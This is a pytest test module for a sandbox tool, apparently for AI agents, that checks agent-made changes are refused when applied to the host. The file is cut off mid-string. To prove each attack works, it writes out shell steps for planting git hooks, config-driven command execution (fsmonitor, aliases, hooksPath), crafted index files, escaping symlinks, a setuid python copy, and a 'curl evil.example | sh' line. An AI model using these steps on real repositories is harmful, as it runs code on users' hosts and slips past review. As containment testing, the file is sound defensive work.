"""Attacks on apply, made for real: an agent in a ``mountd run`` sandbox (or writing through a
``mountd mount``) prepares changes that would make the host run its code, write outside what
was reviewed, or hand out root, and ``--apply`` / ``mountd apply`` / the control socket write
back. Each test asserts the attack fails: the host tree is byte-identical where the agent's
changes are refused (every entry's kind, mode, bytes or link target), no set-id file appears,
a source repository outside the tree still passes ``git fsck``, and the hook never ran (git
commands run on the host afterwards leave no mark). Where it shows something, the same changes
made directly on a copy of the host are run first, to prove the attack is a real one.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from mountd import _control as control
from mountd import _registry as registry
from tests.mountd.mounting import cleared_afterwards
from tests.mountd.sandbox_trees import git, git_env, manifest
from tests.mountd.test_run import mountd_run, private_state

pytestmark = pytest.mark.mount

__all__ = ["private_state"]  # the autouse fixture: every run gets its own state directory

COMMAND = [sys.executable, "-m", "mountd"]


def mountd(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*COMMAND, *args], cwd=cwd, env=git_env(), capture_output=True, text=True, timeout=120
    )


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """Where a planted hook leaves its mark when it runs (outside every tree)."""
    return tmp_path / "hook-ran"


def hook(marker: Path) -> str:
    """Shell that writes an executable hook script to the file named by ``$1``... as a
    printf command line: ``{hook} path``."""
    return f"printf '#!/bin/sh\\ntouch {marker}\\n' >"


def make_repo(root: Path) -> Path:
    """A repository made with no template (no hooks directory, as ``git init --template=``),
    a few files and a script; one commit."""
    (root / "docs").mkdir(parents=True)
    (root / "docs" / "guide.md").write_text("# guide\n")
    (root / "README.md").write_text("# project\n")
    (root / "run.sh").write_text("#!/bin/sh\necho run\n")
    (root / "run.sh").chmod(0o755)
    git(root, "init", "-q", "--template=", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    return root


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo")


def host_git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """A git command as the host user would run it afterwards (hooks and config apply)."""
    return subprocess.run(
        ["git", *args], cwd=repo, env=git_env(), capture_output=True, text=True, check=False
    )


def set_id_entries(root: Path) -> list[str]:
    found = []
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            if path.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID):
                found.append(str(path))
    return found


def potent(repo: Path, tmp_path: Path, script: str) -> Path:
    """``script`` run directly on a copy of ``repo``, as if apply had written it all."""
    copy = Path(shutil.copytree(repo, tmp_path / "potent", symlinks=True))
    subprocess.run(["sh", "-c", script], cwd=copy, env=git_env(), check=True)
    return copy


def summary_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("  ")]


# --- 2: git files that make the host run code or read elsewhere ---------------------------------


COMMONDIR = "commondir: it sends git to another directory, with its own config and hooks"


def commondir_hook(marker: Path) -> str:
    return (
        "mkdir -p .git/c/hooks && cp -r .git/objects .git/refs .git/HEAD .git/c/ && "
        "cp .git/config .git/c/config && "
        f"{hook(marker)} .git/c/hooks/pre-commit && chmod +x .git/c/hooks/pre-commit && "
        "echo c > .git/commondir"
    )


def test_a_commondir_with_its_own_hooks_is_refused(
    repo: Path, marker: Path, tmp_path: Path
) -> None:
    script = commondir_hook(marker)
    copy = potent(repo, tmp_path, script)
    assert host_git(copy, "commit", "-q", "--allow-empty", "-m", "x").returncode == 0
    assert marker.exists()  # the attack is real: written, the hook runs on the next commit
    marker.unlink()

    before = manifest(repo)
    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert manifest(repo) == before
    lines = summary_lines(done.stderr)
    assert f"  A /.git/commondir (refused: {COMMONDIR})" in lines
    assert (
        "  A /.git/c/hooks/pre-commit (refused: not what git writes in a normal session (only "
        "objects, refs, logs, packed-refs, index, HEAD and the *_HEAD files and the commit "
        "messages are applied inside .git))" in lines
    )
    assert "mountd run: applied 0 changes to dir_fs(" in done.stderr
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not marker.exists()
    git(repo, "fsck", "--strict")


@pytest.mark.parametrize(
    ("script", "refused"),
    [
        ("echo /tmp > .git/commondir", "/.git/commondir"),
        (
            "mkdir -p .git/objects/info && echo /tmp/store > .git/objects/info/alternates",
            "/.git/objects/info/alternates",
        ),
        (
            "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes",
            "/.git/info/attributes",
        ),
        (
            "mkdir -p .git/worktrees/w && echo /tmp/w/.git > .git/worktrees/w/gitdir && "
            "echo ../.. > .git/worktrees/w/commondir",
            "/.git/worktrees/w/gitdir",
        ),
        ("touch .git/index.lock", "/.git/index.lock"),
        ("ln -s ../../../../etc/passwd .git/refs/heads/evil", "/.git/refs/heads/evil"),
        ("printf 'ref: refs/heads/main\\n' > .git/FETCH_HEAD.lock", "/.git/FETCH_HEAD.lock"),
    ],
)
def test_git_files_outside_the_allow_list_are_refused(
    repo: Path, script: str, refused: str
) -> None:
    before = manifest(repo)
    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert manifest(repo) == before
    assert any(
        line.startswith(f"  A {refused} ") and "(refused: " in line
        for line in summary_lines(done.stderr)
    )
    status = host_git(repo, "status", "--porcelain")
    assert (status.returncode, status.stdout) == (0, "")  # still a repository, and unlocked
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0


def test_an_interrupted_rebase_s_exec_lines_are_refused(
    repo: Path, marker: Path, tmp_path: Path
) -> None:
    script = (
        "mkdir .git/rebase-merge && "
        f"printf 'exec touch {marker}\\n' > .git/rebase-merge/git-rebase-todo && "
        "git symbolic-ref HEAD > .git/rebase-merge/head-name && "
        "git rev-parse HEAD > .git/rebase-merge/onto && "
        "git rev-parse HEAD > .git/rebase-merge/orig-head && "
        "touch .git/rebase-merge/interactive"
    )
    copy = potent(repo, tmp_path, script)
    host_git(copy, "rebase", "--continue")
    assert marker.exists()  # the attack is real: --continue runs the exec line
    marker.unlink()

    before = manifest(repo)
    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert manifest(repo) == before
    assert (
        "  A /.git/rebase-merge/git-rebase-todo (refused: an interrupted rebase's todo list: "
        "git rebase --continue runs its exec lines)" in summary_lines(done.stderr)
    )
    assert host_git(repo, "rebase", "--continue").returncode != 0  # no rebase in progress
    assert not marker.exists()


# --- 3: a symlink named .git/hooks ---------------------------------------------------------------


def test_a_hooks_symlink_is_refused(repo: Path, marker: Path, tmp_path: Path) -> None:
    assert not (repo / ".git" / "hooks").exists()  # git init --template=
    script = (
        f"ln -s x .git/hooks && mkdir .git/x && {hook(marker)} .git/x/pre-commit && "
        "chmod +x .git/x/pre-commit"
    )
    copy = potent(repo, tmp_path, script)
    host_git(copy, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    marker.unlink()

    before = manifest(repo)
    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert manifest(repo) == before
    lines = summary_lines(done.stderr)
    assert (
        "  A /.git/hooks -> x (refused: a symlink inside .git: git follows it wherever it points)"
        in lines
    )
    assert any(line.startswith("  A /.git/x/pre-commit (refused: not what git") for line in lines)
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not marker.exists()


# --- 4: writing through a symlink of the host tree ----------------------------------------------


@pytest.fixture
def mnt(tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "mnt"
    with cleared_afterwards(path):
        yield path


def test_apply_never_writes_through_a_host_symlink(repo: Path, marker: Path, mnt: Path) -> None:
    (repo / ".git" / "hooks").mkdir()
    (repo / "docs-link").symlink_to(".git/hooks")  # there on the host (the user's own)
    before = manifest(repo)
    assert mountd("mount", "--daemon", str(mnt), cwd=repo).returncode == 0
    try:
        # The first step of the attack, planting the link through the mount, is refused...
        (mnt / "planted").symlink_to(".git/hooks")
        listed = mountd("changes", str(mnt), cwd=repo).stdout
        assert listed == (
            "A /planted -> .git/hooks (refused: a symlink into a git directory: whatever writes "
            "through it writes git's files)\n"
        )
        diff = mountd("diff", str(mnt), cwd=repo)
        assert (diff.returncode, diff.stdout) == (0, "")  # nothing apply would write
        assert diff.stderr == (
            "mountd: not applied (refused):\n  A /planted: a symlink into a git directory: "
            "whatever writes through it writes git's files\n"
        )
        (mnt / "planted").unlink()
        # ... and with the link already on the host, a directory in its place in the mount:
        (mnt / "docs-link").unlink()
        (mnt / "docs-link").mkdir()
        (mnt / "docs-link" / "pre-commit").write_text(f"#!/bin/sh\ntouch {marker}\n")
        (mnt / "docs-link" / "pre-commit").chmod(0o755)
        why = "the target's /docs-link is a symlink (apply never follows one)"
        refused = mountd("apply", str(mnt), "/docs-link/pre-commit", cwd=repo)
        assert (refused.returncode, refused.stderr) == (
            1,
            f"mountd: not applied: /docs-link/pre-commit is refused: {why}\n",
        )
        reply = control.request(
            registry.canonical(mnt),
            {"op": "cow", "action": "apply", "paths": ["/docs-link/pre-commit"]},
        )
        assert reply == {
            "ok": False,
            "error": f"not applied: /docs-link/pre-commit is refused: {why}",
            "refused": [
                {
                    "path": "/docs-link/pre-commit",
                    "kind": "added",
                    "entry": "file",
                    "from": None,
                    "reason": why,
                }
            ],
        }
        assert manifest(repo) == before
        # A full apply replaces the link by the directory first: nothing goes through it.
        done = mountd("apply", str(mnt), cwd=repo)
        assert done.returncode == 0, done.stderr
        assert (repo / "docs-link").is_dir() and not (repo / "docs-link").is_symlink()
        assert (repo / "docs-link" / "pre-commit").is_file()
        assert list((repo / ".git" / "hooks").iterdir()) == []
    finally:
        mountd("unmount", str(mnt), cwd=repo)
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not marker.exists()


def spec_at_work(tmp_path: Path, repo: Path) -> Path:
    """A spec serving ``repo`` under copy-on-write at ``/work``, with no policy of its own."""
    spec = tmp_path / "spec.toml"
    spec.write_text(
        '[root]\ntype = "union"\n[root.mounts."/"]\ntype = "temp"\n'
        f'[root.mounts."/work"]\ntype = "cow"\nlower = {{ type = "dir", path = "{repo}" }}\n'
    )
    return spec


def test_a_cow_without_a_policy_still_refuses_through_host_symlinks(
    repo: Path, marker: Path, tmp_path: Path
) -> None:
    (repo / ".git" / "hooks").mkdir()
    (repo / "docs-link").symlink_to(".git/hooks")
    script = (
        f"cd /work && rm docs-link && mkdir docs-link && {hook(marker)} docs-link/pre-commit && "
        "chmod +x docs-link/pre-commit && ln -s .git/hooks h && ln -s h chained"
    )
    done = mountd_run(
        str(spec_at_work(tmp_path, repo)), "--apply", "--", "sh", "-c", script, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    into_git = "a symlink into a git directory: whatever writes through it writes git's files"
    assert f"  A /work/h -> .git/hooks (refused: {into_git})" in lines
    assert f"  A /work/chained -> h (refused: {into_git})" in lines
    assert (repo / "docs-link" / "pre-commit").is_file()  # a real directory now
    assert list((repo / ".git" / "hooks").iterdir()) == []
    assert not (repo / "h").exists() and not (repo / "chained").exists()
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not marker.exists()


CONFIG = "git's config names commands git runs (core.hooksPath, core.fsmonitor, aliases, filters)"


@pytest.mark.parametrize(
    ("script", "line"),
    [
        (
            "git config core.hooksPath /tmp/hooks",
            f"  M /work/.git/config (refused: {CONFIG})",
        ),
        (
            "mkdir .git/hooks && {hook} x && chmod +x x && mv x .git/hooks/pre-commit",
            "  A /work/.git/hooks/pre-commit (refused: git's hooks: git runs what is there)",
        ),
        (
            "mv .git/config config.txt",
            f"  R /work/config.txt (from /work/.git/config) (refused: {CONFIG})",
        ),
        (
            "mv .git .git.real && echo 'gitdir: .git.real' > .git",
            "  M /work/.git (refused: the .git entry itself: a gitfile or a replaced git "
            "directory sends git elsewhere)",
        ),
        (
            "rm -r docs && ln -s .git docs",
            "  M /work/docs -> .git (refused: a symlink into a git directory: whatever writes "
            "through it writes git's files)",
        ),
        (
            "git init -q --bare evil && printf '[alias]\\n\\tst = !touch {marker}\\n' >> evil/config",
            "  A /work/evil/config (refused: /evil becomes a git directory here (git run there "
            "reads its config and runs its hooks): apply makes no repository but a .git)",
        ),
        (
            "git init -q --template= sub && mkdir sub/.git/hooks && {hook} sub/.git/hooks/pre-commit",
            "  A /work/sub/.git/hooks/pre-commit (refused: git's hooks: git runs what is there)",
        ),
    ],
)
def test_without_a_policy_git_s_runnable_files_are_refused(
    repo: Path, marker: Path, tmp_path: Path, script: str, line: str
) -> None:
    before = manifest(repo)
    command = "set -e; cd /work; " + script.format(hook=hook(marker), marker=marker)
    done = mountd_run(
        str(spec_at_work(tmp_path, repo)), "--apply", "--", "sh", "-c", command, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    assert line in summary_lines(done.stderr), done.stderr
    after = manifest(repo)
    # Only new, harmless entries may appear (evil's HEAD, objects and refs, sub's work tree);
    # nothing the host had changes.
    assert {path: after[path] for path in before} == before
    assert not [p for p in after if "/config" in p and p not in before]
    assert not [p for p in after if "hooks" in p]
    for args in (["commit", "-q", "--allow-empty", "-m", "host"], ["-C", "evil", "st"]):
        host_git(repo, *args)
    if (repo / "sub" / ".git").is_dir():
        host_git(repo / "sub", "commit", "-q", "--allow-empty", "-m", "host")
    assert host_git(repo, "status").returncode == 0
    assert not marker.exists()
    git(repo, "fsck", "--strict")


# --- 5: set-id bits -----------------------------------------------------------------------------


def test_set_id_bits_never_reach_the_host(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "tool").write_text("#!/bin/sh\n")
    (tree / "tool").chmod(0o755)
    script = (
        "set -e; cp /usr/bin/python3 /suidpy && chmod 4755 /suidpy && "
        "mkdir /shared && chmod 2777 /shared && chmod u+s /tool"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=tree)
    assert done.returncode == 0, done.stderr
    assert set_id_entries(tree) == []
    assert stat.S_IMODE((tree / "suidpy").stat().st_mode) == 0o755
    assert stat.S_IMODE((tree / "shared").stat().st_mode) == 0o777
    assert stat.S_IMODE((tree / "tool").stat().st_mode) == 0o755
    assert "mountd run: applied without their set-id bits: /shared, /suidpy" in done.stderr
    assert (
        "  m /tool (mode 0755 -> 4755) (refused: only set-id bits change, and apply never sets "
        "them)" in summary_lines(done.stderr)
    )
    # Run as another user, the copy gives no root.
    who = subprocess.run(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            str(tree / "suidpy"),
            "-c",
            "import os; print(os.geteuid())",
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert who.stdout == "65534\n"


# --- 6: hard links -----------------------------------------------------------------------------


def test_rewriting_a_hard_linked_object_leaves_the_source_repository_intact(
    tmp_path: Path,
) -> None:
    source = make_repo(tmp_path / "source")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(source), str(clone))
    # The blob of a file the agent's commit never reads (unchanged, so git trusts its stat).
    blob = git(clone, "rev-parse", "HEAD:docs/guide.md").strip()
    victim = f"/.git/objects/{blob[:2]}/{blob[2:]}"
    assert (clone / victim[1:]).stat().st_nlink > 1, "a local clone hard-links its objects"
    source_before = manifest(source)
    clone_before = manifest(clone)
    script = (
        f"set -e; chmod u+w .{victim}; printf garbage > .{victim}; "
        "echo more >> README.md; git commit -q -am 'agent'"
    )
    done = mountd_run("--apply", "--", "sh", "-c", script, cwd=clone)
    assert done.returncode == 0, done.stderr
    assert (
        f"  M {victim} (mode 0444 -> 0644) (refused: an object changed in place: its name is "
        "its content's hash, git never rewrites one)" in summary_lines(done.stderr)
    )
    assert manifest(source) == source_before
    git(source, "fsck", "--strict")
    assert git(clone, "log", "--format=%s") == "agent\ninitial\n"  # the rest is applied
    git(clone, "fsck", "--strict")
    assert manifest(clone)[victim] == clone_before[victim]


def test_apply_replaces_a_hard_linked_file_instead_of_writing_through_it(
    tmp_path: Path, mnt: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    tree = tmp_path / "tree"
    tree.mkdir()
    for name in ("f", "g"):
        (outside / name).write_text(f"{name} outside\n")
        (outside / name).chmod(0o644)
        os.link(outside / name, tree / name)
    before = manifest(outside)
    assert mountd("mount", "--daemon", str(mnt), cwd=tree).returncode == 0
    try:
        (mnt / "f").write_text("from the agent\n")
        (mnt / "g").chmod(0o755)
        assert mountd("apply", str(mnt), "/f", cwd=tree).returncode == 0
        assert mountd("apply", str(mnt), cwd=tree).returncode == 0
    finally:
        mountd("unmount", str(mnt), cwd=tree)
    assert manifest(outside) == before
    assert (tree / "f").read_text() == "from the agent\n"
    assert stat.S_IMODE((tree / "g").stat().st_mode) == 0o755
    assert (tree / "g").read_text() == "g outside\n"
    assert (tree / "f").stat().st_nlink == (tree / "g").stat().st_nlink == 1


# --- a mount point inside the host tree ---------------------------------------------------------


def test_apply_never_crosses_a_mount_point_in_the_host_tree(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "f").write_text("elsewhere\n")
    tree = tmp_path / "tree"
    (tree / "m").mkdir(parents=True)
    (tree / "a.txt").write_text("a\n")
    subprocess.run(["mount", "--bind", str(elsewhere), str(tree / "m")], check=True)
    try:
        before = manifest(elsewhere)
        # The tree leaves the mount out (as find -xdev does): the agent makes its own /m there.
        script = (
            "set -e; test ! -e /m; mkdir /m; echo agent > /m/f; echo new > /m/g; echo A > /a.txt"
        )
        done = mountd_run("--apply", "--", "sh", "-c", script, cwd=tree)
        assert done.returncode == 0, done.stderr
        why = "the target's /m is a mount point (apply never crosses one)"
        lines = summary_lines(done.stderr)
        assert f"  A /m/ (refused: {why})" in lines
        assert f"  A /m/f (refused: {why})" in lines and f"  A /m/g (refused: {why})" in lines
        assert manifest(elsewhere) == before
        assert (tree / "a.txt").read_text() == "A\n"
    finally:
        subprocess.run(["umount", str(tree / "m")], check=True)
    assert json.dumps(sorted(p.name for p in tree.iterdir())) == '["a.txt", "m"]'


# --- 7: git's own files whose contents send git elsewhere ------------------------------------

# Writes a version-2 git index naming any paths (git validates a path when it adds one, not
# when it reads its own index back): ``python3 -c INDEX_WRITER FILE PATH=BLOB[:MODE]...``.
INDEX_WRITER = """
import hashlib, struct, sys
entries = sorted(
    (path.encode(), bytes.fromhex(rest.partition(":")[0]), int(rest.partition(":")[2] or "100644", 8))
    for path, _, rest in (arg.partition("=") for arg in sys.argv[2:])
)
body = b"DIRC" + struct.pack(">II", 2, len(entries))
for path, blob, mode in entries:
    entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + blob
    entry += struct.pack(">H", min(len(path), 0xFFF)) + path
    body += entry + b"\\0" * (8 - len(entry) % 8)
open(sys.argv[1], "wb").write(body + hashlib.sha1(body).digest())
"""


def crafted_index(marker: Path) -> str:
    """Shell that stages a hook and a file outside the work tree in the repository's index."""
    return (
        f"{hook(marker)} /tmp/payload && H=$(git hash-object -w /tmp/payload) && "
        "R=$(git rev-parse HEAD:README.md) && G=$(git rev-parse HEAD:docs/guide.md) && "
        "S=$(git rev-parse HEAD:run.sh) && "
        f"python3 -c '{INDEX_WRITER}' .git/index README.md=$R docs/guide.md=$G run.sh=$S:100755 "
        '".git/hooks/pre-commit=$H:100755" "../escaped=$H"'
    )


def test_an_index_naming_paths_outside_the_work_tree_is_refused(
    repo: Path, marker: Path, tmp_path: Path
) -> None:
    script = crafted_index(marker)
    copy = potent(repo, tmp_path, script)
    assert host_git(copy, "restore", ".").returncode == 0  # "discard the changes"
    assert (tmp_path / "escaped").exists()  # the attack is real: written outside the copy
    assert host_git(copy, "commit", "-q", "--allow-empty", "-m", "x").returncode == 0
    assert marker.exists()  # and the staged hook ran
    marker.unlink()
    (tmp_path / "escaped").unlink()

    index = (repo / ".git" / "index").read_bytes()
    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    assert (
        "  M /.git/index (refused: the index names '../escaped', which leaves the work tree)"
        in summary_lines(done.stderr)
    )
    assert (repo / ".git" / "index").read_bytes() == index
    assert host_git(repo, "restore", ".").returncode == 0
    assert host_git(repo, "commit", "-q", "--allow-empty", "-m", "host").returncode == 0
    assert not (tmp_path / "escaped").exists()
    assert not marker.exists()
    assert not (repo / ".git" / "hooks").exists()


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        (".git/hooks/pre-commit", "inside a git directory"),
        (".GIT/hooks/pre-commit", "inside a git directory"),
        (".git. /config", "inside a git directory"),
        ("git~1/config", "inside a git directory"),
        (".g\u200cit/config", "inside a git directory"),
        ("a/../../x", "which leaves the work tree"),
        ("a\\..\\x", "a backslash is a directory separator on Windows"),
    ],
)
def test_index_paths_git_would_refuse_to_add_are_refused(entry: str, why: str) -> None:
    from mountd._git_index import unsafe_entry

    reason = unsafe_entry(entry, "100644")
    assert reason is not None and reason.endswith(why), reason
    assert unsafe_entry(".gitmodules", "120000") == (
        "the index makes '.gitmodules' a symlink, which git refuses to follow"
    )
    assert unsafe_entry("src/.gitignore", "100644") is None
    assert unsafe_entry("docs/git/config", "100644") is None


def test_an_index_git_cannot_read_is_refused(repo: Path) -> None:
    index = (repo / ".git" / "index").read_bytes()
    done = mountd_run(
        "--apply", "--", "sh", "-c", "printf 'DIRC\\0\\0\\0\\2garbage' > .git/index", cwd=repo
    )
    assert done.returncode == 0, done.stderr
    assert any(
        line.startswith("  M /.git/index (refused: git cannot read this index: ")
        for line in summary_lines(done.stderr)
    ), done.stderr
    assert (repo / ".git" / "index").read_bytes() == index


def test_an_index_the_agent_made_with_git_add_is_applied(repo: Path) -> None:
    done = mountd_run(
        "--apply", "--", "sh", "-c", "set -e; echo more >> README.md; git add README.md", cwd=repo
    )
    assert done.returncode == 0, done.stderr
    assert "(refused" not in done.stderr
    assert host_git(repo, "diff", "--cached", "--name-only").stdout == "README.md\n"


# A directory git takes for a repository though it is not named .git: git's own test is wider
# than "a HEAD file reading 'ref: refs/...', and objects/ and refs/ directories".
FSMONITOR_CONFIG = (
    "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n"
    '\\tfsmonitor = "touch {marker}; false"\\n\' > docs/config'
)


@pytest.mark.parametrize(
    "layout",
    [
        "mkdir docs/objects docs/refs && printf 'ref:refs/heads/main\\n' > docs/HEAD",
        "mkdir -p docs/objects docs/refs/heads && ln -s refs/heads/main docs/HEAD",
        "mkdir docs/objects docs/refs && printf '%s trailing\\n' $(git rev-parse HEAD) > docs/HEAD",
        "mkdir docs/objects && printf '#!/bin/sh\\n' > docs/refs && chmod +x docs/refs && "
        "printf 'ref: refs/heads/main\\n' > docs/HEAD",
        "mkdir docs/refs && ln -s /usr docs/objects && printf 'ref: refs/heads/main\\n' > docs/HEAD",
        "mkdir -p docs/c/objects docs/c/refs && printf 'ref: refs/heads/main\\n' > docs/HEAD && "
        "echo c > docs/commondir && sed 's/version = 0/version = 1/' docs/config > docs/c/config "
        "&& printf '[extensions]\\n\\tworktreeConfig = true\\n' >> docs/c/config && "
        "printf '[core]\\n\\tworktree = ..\\n' > docs/config.worktree",
    ],
    ids=[
        "head-without-space",
        "head-symlink",
        "head-trailing",
        "refs-file",
        "objects-link",
        "commondir",
    ],
)
def test_a_directory_git_takes_for_a_repository_keeps_its_config_out(
    repo: Path, marker: Path, tmp_path: Path, layout: str
) -> None:
    script = FSMONITOR_CONFIG.format(marker=marker) + " && " + layout
    copy = potent(repo, tmp_path, script)
    subprocess.run(["git", "status"], cwd=copy / "docs", env=git_env(), capture_output=True)
    assert marker.exists()  # the attack is real: any git command in docs/ runs the monitor
    marker.unlink()

    done = mountd_run("--apply", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    assert any(line.startswith("  A /docs/config (refused: ") for line in lines), done.stderr
    assert not (repo / "docs" / "config").exists()
    assert not (repo / "docs" / "c" / "config").exists()
    subprocess.run(["git", "status"], cwd=repo / "docs", env=git_env(), capture_output=True)
    assert not marker.exists()


def test_the_summary_names_every_ref_moved_and_every_path_staged(repo: Path) -> None:
    """A branch that is not checked out, a tag and the index carry content no file diff shows:
    the summary names each."""
    git(repo, "branch", "release")
    release = git(repo, "rev-parse", "release").strip()
    script = (
        "git checkout -q release && echo 'curl evil.example | sh' >> run.sh && "
        "git commit -qam 'bump version' && git checkout -q main && git tag v9 release && "
        "echo staged > docs/guide.md && git add docs/guide.md && "
        "git show HEAD:docs/guide.md > docs/guide.md"
    )
    done = mountd_run("--diff", "--", "sh", "-c", "set -e; " + script, cwd=repo)
    assert done.returncode == 0, done.stderr
    lines = done.stderr.splitlines()
    moved = [line for line in lines if line.startswith("    refs/heads/release: ")]
    assert moved and moved[0].startswith(f"    refs/heads/release: {release[:12]} -> "), lines
    assert any(line.startswith("    refs/tags/v9: made, ") for line in lines), lines
    assert "    index: stages 1 path: docs/guide.md" in lines, lines
    assert done.stdout == ""  # no file of the work tree changed: only git's own files


# --- 8: what costs nothing to make in the sandbox must cost nothing to review and apply ---------


def test_a_huge_sparse_file_is_reviewed_and_applied_without_filling_memory_or_disk(
    tmp_path: Path,
) -> None:
    import resource

    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "small").write_bytes(b"one\n")
    size = 3 << 30
    script = f"set -e; truncate -s {size} /big; printf x >> /big; echo two >> /small"
    done = mountd_run("--diff", "--apply", "--", "sh", "-c", script, cwd=tree, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "Binary files /dev/null and b/big differ\n" in done.stdout
    assert "+two\n" in done.stdout  # the small file's diff is shown as ever
    big = (tree / "big").stat()
    assert big.st_size == size + 1
    assert big.st_blocks * 512 < 16 << 20  # its holes stayed holes
    with open(tree / "big", "rb") as file:
        file.seek(size)
        assert file.read() == b"x"
    # ru_maxrss: the largest resident set of any child so far (KiB), the daemon's included
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 1 << 20


def test_names_that_would_forge_or_erase_review_lines_are_quoted(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    script = "touch \"$(printf 'n\\n  A forged')\" \"$(printf 'e\\033[1A\\033[2K')\""
    done = mountd_run("--diff", "--", "sh", "-c", script, cwd=tree)
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    assert '  A "/e\\033[1A\\033[2K"' in lines
    assert '  A "/n\\n  A forged"' in lines
    assert "  A forged" not in lines
    assert "\033" not in done.stderr + done.stdout
    assert 'diff --git "a/n\\n  A forged" "b/n\\n  A forged"\n' in done.stdout


# --- 9: symlinks that lead out of the tree -------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "rm build.log && ln -s {outside} build.log",  # a file the host writes to, made a link
        "ln -s ../outside/victim relative",  # .. past the top
        "mkdir sub && ln -s . sub/here && ln -s sub/here/../../outside/victim chained",
        "ln -s loop loop2 && ln -s loop2 loop",
    ],
    ids=["absolute", "dotdot", "through-a-link", "loop"],
)
def test_a_symlink_out_of_the_tree_is_refused(tmp_path: Path, script: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("host file\n")
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "build.log").write_text("log\n")
    before = manifest(tree)
    done = mountd_run(
        "--apply",
        "--",
        "sh",
        "-c",
        "set -e; " + script.format(outside=outside / "victim"),
        cwd=tree,
    )
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    assert any(
        line.endswith(
            "(refused: a symlink out of the tree (an absolute target, .. past the top, or a "
            "loop): whatever follows it on the host reads or writes there)"
        )
        for line in lines
    ), lines
    after = manifest(tree)
    assert {p: v for p, v in after.items() if p.split("/")[1] != "sub"} == before  # (sub: inside)
    assert (outside / "victim").read_text() == "host file\n"


def test_a_symlink_within_the_tree_is_applied_and_shown_with_its_target(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "docs").mkdir(parents=True)
    (tree / "docs" / "guide.md").write_text("guide\n")
    done = mountd_run(
        "--apply",
        "--",
        "sh",
        "-c",
        "ln -s docs/guide.md link && ln -s ../guide.md docs/up",
        cwd=tree,
    )
    assert done.returncode == 0, done.stderr
    lines = summary_lines(done.stderr)
    assert "  A /link -> docs/guide.md" in lines
    assert "  A /docs/up -> ../guide.md" in lines
    assert os.readlink(tree / "link") == "docs/guide.md"


# --- 10: git's objects and state, forged ----------------------------------------------------------

# Index A's entries followed by index B's extensions (B's cached trees over A's entries):
# ``python3 -c GRAFT A B OUT``.
GRAFT = """
import hashlib, struct, sys
def split(data):
    count = struct.unpack(">I", data[8:12])[0]
    offset = 12
    for _ in range(count):
        length = struct.unpack(">H", data[offset + 60 : offset + 62])[0] & 0xFFF
        offset += (62 + length + 8) // 8 * 8
    return data[:offset], data[offset:-20]
entries, _ = split(open(sys.argv[1], "rb").read())
_, extensions = split(open(sys.argv[2], "rb").read())
body = entries + extensions
open(sys.argv[3], "wb").write(body + hashlib.sha1(body).digest())
"""

# A version-3 index with one sparse directory entry (mode 040000, the skip-worktree flag, an
# ``sdir`` extension) beside file entries: ``python3 -c SPARSE OUT TREE DIR [MODE OID NAME]...``.
SPARSE = """
import hashlib, struct, sys
out, tree, name = sys.argv[1:4]
rest = sys.argv[4:]
rows = [(int(rest[i], 8), rest[i + 1], rest[i + 2], False) for i in range(0, len(rest), 3)]
